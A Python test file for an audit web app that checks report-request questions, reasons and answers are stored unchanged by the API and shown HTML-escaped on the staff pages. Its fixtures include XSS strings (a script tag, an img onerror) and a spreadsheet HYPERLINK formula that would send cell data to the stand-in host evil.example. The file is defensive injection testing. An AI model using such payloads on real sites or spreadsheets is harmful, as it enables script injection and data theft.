"""A report request's question, reason and the employer's answer: in the API's models (what
the representative's and HR's pages show is what the API answers), escaped on every page —
markup shows as text, a spreadsheet formula stays plain text."""

from __future__ import annotations

from typing import Any

from tests.web.conftest import csrf_of, login

from ai_work_audit.api._db import AuditJobRow, session_scope, utcnow
from ai_work_audit.api._keys import create_key

SCRIPT = '<script>alert("q")</script><b>bold</b>'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_HTML = "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;click&#34;)"
ANSWER = "<img src=x onerror=alert(1)> see the audit"


def _done_audit(app: Any, org: str = "acme") -> str:
    """A finished hiring audit row to answer with (its document is not read here)."""
    with session_scope(app.state.sessions) as session:
        session.add(AuditJobRow(id="a" * 32, organisation=org, kind="hiring", status="done",
                                system="tool", params={}, lang="en", result={},
                                upload_name="upload.csv", upload_bytes=0, created_by="t",
                                created_at=utcnow(), finished_at=utcnow(), attempts=1))
    return "a" * 32


def _escaped(html: str, reason: bool = True) -> None:
    assert "<script>alert" not in html and "<b>bold</b>" not in html
    assert "&lt;script&gt;alert(&#34;q&#34;)&lt;/script&gt;&lt;b&gt;bold&lt;/b&gt;" in html
    assert not reason or FORMULA_HTML in html


def test_the_api_carries_question_reason_and_answer(browser_client: Any, accounts: Any,
                                                    web_app: Any) -> None:
    with session_scope(web_app.state.sessions) as session:
        rep_key = create_key(session, "acme", "worker_rep")[1]
        hr_key = create_key(session, "acme", "hr_analyst")[1]
    api = browser_client()
    created = api.post("/v1/report-requests", headers={"Authorization": f"Bearer {rep_key}"},
                       json={"system": "tool", "period": "2026", "audit_kind": "hiring",
                             "question": SCRIPT, "reason": FORMULA})
    assert created.status_code == 201, created.text
    body = created.json()
    assert (body["question"], body["reason"], body["answer"]) == (SCRIPT, FORMULA, None)
    assert body["message"] == SCRIPT  # earlier clients read the question there
    fulfilled = api.post(f"/v1/report-requests/{body['id']}/fulfil",
                         headers={"Authorization": f"Bearer {hr_key}"},
                         json={"audit_id": _done_audit(web_app), "answer": ANSWER})
    assert fulfilled.status_code == 200, fulfilled.text
    assert fulfilled.json()["answer"] == ANSWER
    listed = api.get("/v1/report-requests",
                     headers={"Authorization": f"Bearer {rep_key}"}).json()["items"]
    assert [(r["question"], r["reason"], r["answer"]) for r in listed] == [
        (SCRIPT, FORMULA, ANSWER)]
    # the pages show the API's texts, escaped
    rep = browser_client()
    login(rep, *accounts[("acme", "worker_rep")])
    _escaped(rep.get(f"/rep/requests/{body['id']}").text)
    _escaped(rep.get("/rep").text, reason=False)  # the list shows the question
    detail = rep.get(f"/rep/requests/{body['id']}").text
    assert "&lt;img src=x onerror=alert(1)&gt; see the audit" in detail
    hr = browser_client()
    login(hr, *accounts[("acme", "hr_analyst")])
    _escaped(hr.get(f"/hr/requests/{body['id']}").text)
    _escaped(hr.get("/hr").text, reason=False)


def test_a_request_from_the_page_reads_the_same_through_the_api(
        browser_client: Any, accounts: Any, web_app: Any) -> None:
    rep = browser_client()
    login(rep, *accounts[("acme", "worker_rep")])
    form = rep.get("/rep/requests/new")
    sent = rep.post("/rep/requests", data={
        "csrf": csrf_of(form.text), "system": "tool", "period": "2026-Q1",
        "audit_kind": "hiring", "question": SCRIPT, "reason": FORMULA})
    assert sent.status_code == 303
    request_id = sent.headers["location"].split("/")[-1].split("?")[0]
    _escaped(rep.get(sent.headers["location"]).text)
    hr = browser_client()
    login(hr, *accounts[("acme", "hr_analyst")])
    page = hr.get(f"/hr/requests/{request_id}")
    _escaped(page.text)
    answered = hr.post(f"/hr/requests/{request_id}", data={
        "csrf": csrf_of(page.text), "audit_id": _done_audit(web_app), "answer": FORMULA})
    assert answered.status_code == 303
    with session_scope(web_app.state.sessions) as session:
        key = create_key(session, "acme", "worker_rep")[1]
    item = next(r for r in browser_client().get(
        "/v1/report-requests", headers={"Authorization": f"Bearer {key}"}).json()["items"]
        if r["id"] == request_id)
    assert (item["question"], item["reason"], item["answer"]) == (SCRIPT, FORMULA, FORMULA)
    shown = rep.get(f"/rep/requests/{request_id}").text
    assert FORMULA_HTML in shown
